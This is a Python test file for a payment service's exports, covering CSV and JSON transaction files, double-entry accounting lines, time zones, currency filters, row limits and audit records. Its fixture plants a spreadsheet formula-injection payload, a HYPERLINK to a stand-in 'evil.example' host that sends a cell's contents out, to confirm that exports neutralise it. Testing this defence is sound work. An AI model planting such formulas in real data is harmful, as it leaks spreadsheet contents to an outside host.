"""Files of payments and of the double entry: each row and column is what is stored."""

import csv
import io
import json
import random
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from service.analytics.operations import exporting
from service.analytics.repository import exports
from service.jobs.operations.run import run_job
from service.storage.database import Row
from tests.analytics.rows import one_sale, opened
from tests.analytics.test_now import BASE, asked
from tests.bookkeeping.books import CRON
from tests.conftest import NOON
from tests.payments.history.rows import pay
from tests.support.api import ADMIN
from tests.support.shop import Shop

ALL = {"startDate": "2026-01-01", "endDate": "2026-12-31"}
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"pay")'


async def _file(shop: Shop, name: str, **params: Any) -> str:
    answer = await shop.api.call("GET", f"{BASE}/exports/{name}", ADMIN, params=ALL | params)
    assert answer.status_code == 200, answer.text
    assert answer.headers["cache-control"] == "no-store"
    return answer.text


def _table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
async def sold(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> list[Row]:
    """Payments of two merchants in several currencies; returned are one's, newest first."""
    monkeypatch.setattr(exports, "BATCH", 7)
    draw = random.Random(19)  # noqa: S311 - no secret
    for number in range(110):
        at = NOON - timedelta(seconds=draw.randrange(60 * 86_400), milliseconds=number)
        await one_sale(draw, f"s-{number}", at, "another" if number % 9 == 0 else "default")
    fees = {"fee": 59, "feeCurrency": "USD", "country": "DE"}
    named = {"planId": "gold", "planName": "The golden plan"}
    await pay("pi_fee", details=fees, metadata={"order": 7, "note": "späte"}, refunded=30, **named)
    await pay("pi_other", 1, details=fees | {"feeCurrency": "EUR"}, planName=FORMULA, userId="-1")
    await pay("pi_unnamed", 2)
    rows = await shop.payments(merchantId="default")
    sessions = await shop.database["sessions"].find({"merchantId": "default"}).to_list()
    sold_in = {row["sessionId"]: row["plan"] or row["eventId"] for row in sessions}
    for row in rows:
        row["item"] = row["planName"] or row["planId"] or sold_in.get(row["sessionId"])
    assert {"event", "gold", None} < {row["item"] for row in rows}
    return sorted(rows, key=lambda row: (row["createdAt"], row["_id"]), reverse=True)


def _seconds(at: datetime) -> str:
    return f"{at.astimezone(UTC):%Y-%m-%dT%H:%M:%S}Z"


def _expected(row: Row) -> dict[str, str]:
    details = row["details"] or {}
    fee = details.get("fee") if details.get("feeCurrency") == row["currency"] else None
    values = {
        "Transaction ID": row["_id"],
        "Amount": row["amount"],
        "Currency": row["currency"],
        "Status": row["status"],
        "Resource": row["item"],
        "Provider": row["provider"],
        "Provider Payment ID": row["providerPaymentId"],
        "Payment Method": row["paymentMethod"],
        "Session ID": row["sessionId"],
        "User ID": row["userId"],
        "Country": details.get("country"),
        "Refunded": row["refunded"],
        "Fee": fee,
        "Failure Code": row["failureCode"],
        "Created At": _seconds(row["createdAt"]),
        "Status At": _seconds(row["statusAt"]),
    }
    shown = {name: "" if value is None else str(value) for name, value in values.items()}
    return {name: f"'{text}" if text[:1] in {"=", "-"} else text for name, text in shown.items()}


async def test_a_table_has_each_payment_with_all_columns(shop: Shop, sold: list[Row]) -> None:
    assert len(sold) > 30
    found = _table(await _file(shop, "transactions"))
    assert found == [_expected(row) for row in sold]
    assert {row["Resource"] for row in found} > {"'" + FORMULA, "The golden plan", "gold", ""}
    assert "'-1" in {row["User ID"] for row in found}
    assert {row["Fee"] for row in found} == {"", "59"}
    with_metadata = _table(await _file(shop, "transactions", includeMetadata="true"))
    assert [json.loads(row.pop("Metadata")) for row in with_metadata] == [
        row["metadata"] for row in sold
    ]
    assert with_metadata == found


async def test_json_has_the_same_payments(shop: Shop, sold: list[Row]) -> None:
    plain = json.loads(await _file(shop, "transactions", format="json"))
    assert plain["transactionCount"] == len(sold) == len(plain["transactions"])
    found = json.loads(await _file(shop, "transactions", format="json", includeMetadata="true"))
    for line, row, without in zip(found["transactions"], sold, plain["transactions"], strict=True):
        assert line.pop("metadata") == row["metadata"]
        assert line == without
        details = row["details"] or {}
        assert (line["id"], line["country"]) == (str(row["_id"]), details.get("country"))
        assert line["resource"] == row["item"]
        for name, stored in (("createdAt", "createdAt"), ("statusAt", "statusAt")):
            assert datetime.fromisoformat(line[name]) == row[stored]
        for name in ("amount", "currency", "status", "provider", "providerPaymentId", "sessionId"):
            assert line[name] == row[name]
        for name in ("userId", "paymentMethod", "refunded", "failureCode"):
            assert line[name] == row[name]


async def test_a_time_and_a_currency_are_all_that_is_in_a_file(shop: Shop, sold: list[Row]) -> None:
    begins = NOON - timedelta(days=20)
    params = {"startDate": begins.isoformat(), "endDate": NOON.isoformat(), "currency": "INR"}
    wanted = [row for row in sold if begins <= row["createdAt"] < NOON and row["currency"] == "INR"]
    assert 0 < len(wanted) < len(sold)
    found = _table(await _file(shop, "transactions", **params))
    assert found == [_expected(row) for row in wanted]


async def _posted(shop: Shop) -> list[Row]:
    for name in ("payments", "refunds", "disputes"):
        await shop.database[name].update_many({}, {"$set": {"unposted": True}})
    await run_job("entries", shop.api.container.job_table, CRON)
    entries = await shop.database["entries"].find({"merchantId": "default"}).to_list()
    return sorted(entries, key=lambda row: (row["postedAt"], row["_id"]))


async def _lines(shop: Shop, **params: Any) -> list[dict[str, str]]:
    return _table(await _file(shop, "accounting", **params))


async def test_the_double_entry_has_each_line_and_balances(shop: Shop, sold: list[Row]) -> None:
    entries = await _posted(shop)
    expected = [
        [
            row["postedAt"].date().isoformat(),
            row["_id"],
            row["objectId"],
            f"{row['kind'].capitalize()} {row['objectId']}",
            line["account"],
            str(line["amount"]) if line["amount"] > 0 else "",
            str(-line["amount"]) if line["amount"] < 0 else "",
            line["currency"],
        ]
        for row in entries
        for line in row["lines"]
    ]
    head, *found = csv.reader(io.StringIO(await _file(shop, "accounting"), newline=""))
    assert tuple(head) == exporting.ACCOUNTING
    assert found == expected
    assert len(found) > len(sold)
    for currency in {line[7] for line in found}:
        lines = [line for line in found if line[7] == currency]
        assert sum(int(line[5] or 0) for line in lines) == sum(int(line[6] or 0) for line in lines)


@pytest.mark.parametrize(
    ("zone", "at", "in_zone", "in_utc"),
    [
        ("Asia/Kolkata", datetime(2026, 10, 31, 20, tzinfo=UTC), "2026-11-01", "2026-10-31"),
        ("America/New_York", datetime(2026, 11, 1, 2, tzinfo=UTC), "2026-10-31", "2026-11-01"),
        # Its clocks say October again: they went back over midnight, to a quarter past eleven.
        ("America/St_Johns", datetime(2009, 11, 1, 2, 45, tzinfo=UTC), "2009-11-01", "2009-11-01"),
    ],
)
async def test_the_double_entry_is_dated_by_the_zone_that_it_is_asked_for_by(
    shop: Shop, sold: list[Row], zone: str, at: datetime, in_zone: str, in_utc: str
) -> None:
    entries = await _posted(shop)
    await shop.database["entries"].update_many({}, {"$set": {"postedAt": at}})
    day = {"startDate": in_zone, "endDate": in_zone}
    found = await _lines(shop, **day, timezone=zone)
    assert {line["Entry ID"] for line in found} == {row["_id"] for row in entries}
    assert {line["Date"] for line in found} == {in_zone}
    # The control: in UTC it may have been another day.
    found = await _lines(shop, startDate=in_utc, endDate=in_utc)
    assert {line["Date"] for line in found} == {in_utc}
    assert (await _lines(shop, **day) == []) == (in_zone != in_utc)


async def test_the_double_entry_in_one_currency_has_no_line_in_another(
    shop: Shop, sold: list[Row]
) -> None:
    await _posted(shop)
    both, euros = await _lines(shop), await _lines(shop, currency="EUR")
    assert euros == [line for line in both if line["Currency"] == "EUR"]
    # A fee in euros of a payment in dollars: one entry, and each currency of it balances.
    assert {line["Currency"] for line in both if line["Entry ID"] == euros[0]["Entry ID"]} == {
        "EUR",
        "USD",
    }
    debit, credit = (sum(int(line[side] or 0) for line in euros) for side in ("Debit", "Credit"))
    assert debit == credit > 0


async def test_a_currency_without_rows_is_told_and_leaves_no_record(
    shop: Shop, sold: list[Row]
) -> None:
    for name in ("transactions", "accounting"):
        params = ALL | {"currency": "CHF"}
        answer = await shop.api.call("GET", f"{BASE}/exports/{name}", ADMIN, params=params)
        assert (answer.status_code, answer.json()["error"]) == (400, "no_figures_in_currency")
        # The control: of a currency with rows, a time without any is a file.
        params = {"startDate": "2020-01-01", "endDate": "2020-01-02", "currency": "INR"}
        assert len((await _file(shop, name, **params)).splitlines()) == 1
    records = await shop.database["audit_log"].find({"detail.from": {"$exists": True}}).to_list()
    assert [row["detail"]["from"][:4] for row in records] == ["2020", "2020"]


async def test_a_currency_of_fees_alone_has_files_of_the_double_entry(
    shop: Shop, sold: list[Row]
) -> None:
    """Also one of a time without any; in the control nobody has posted them yet."""
    day = {"startDate": "2020-01-01", "endDate": "2020-01-02", "currency": "EUR"}
    for name in ("transactions", "accounting"):
        answer = await shop.api.call("GET", f"{BASE}/exports/{name}", ADMIN, params=day)
        assert answer.json()["error"] == "no_figures_in_currency"
    await _posted(shop)
    assert await _lines(shop, currency="EUR")
    assert await _lines(shop, **day) == []
    answer = await shop.api.call("GET", f"{BASE}/exports/transactions", ADMIN, params=day)
    assert answer.json()["error"] == "no_figures_in_currency"


async def test_a_pass_or_an_event_is_named_as_figures_do_also_where_the_catalog_has_a_title(
    shop: Shop,
) -> None:
    """Where its session is purged, nothing else is known."""
    opened_for: dict[str, Row] = {"vip": {"passId": "vip"}, "fair": {"eventId": "fair"}}
    for item in (*opened_for, "gone"):
        if item in opened_for:
            await opened(item, NOON, title="One evening", **opened_for[item])
        await pay(f"pi-{item}", -60, sessionId=item, planName="One evening")
    found = _table(await _file(shop, "transactions"))
    assert {row["Resource"] for row in found} == {"vip", "fair", "One evening"}
    resources = (await asked(shop, "top-resources"))["resources"]
    assert {one["url"] for one in resources} == {"vip", "fair", "unknown"}


async def test_a_file_is_on_the_record_and_holds_so_many(
    shop: Shop, sold: list[Row], monkeypatch: pytest.MonkeyPatch
) -> None:
    posted = await _posted(shop)
    span = {"from": "2026-01-01T00:00:00+00:00", "to": "2027-01-01T00:00:00+00:00"}
    for name, what, count, form in (
        ("transactions", "payments", len(sold), {"format": "json"}),
        ("accounting", "entries", len(posted), {}),
    ):
        monkeypatch.setattr(exporting, "MOST_ROWS", count)
        await _file(shop, name, **form)
        monkeypatch.setattr(exporting, "MOST_ROWS", count - 1)
        answer = await shop.api.call("GET", f"{BASE}/exports/{name}", ADMIN, params=ALL)
        assert answer.status_code == 400
        assert f"more than {count - 1} {what}: ask for less" in answer.text
        [row] = await shop.database["audit_log"].find({"action": f"{what}.downloaded"}).to_list()
        assert row["detail"] == {"format": "csv", what: count, **span, **form}
        assert row["at"] == NOON


async def test_a_file_of_nothing_is_a_file(shop: Shop) -> None:
    assert _table(await _file(shop, "transactions")) == []
    assert json.loads(await _file(shop, "transactions", format="json"))["transactions"] == []
    assert len((await _file(shop, "accounting")).splitlines()) == 1
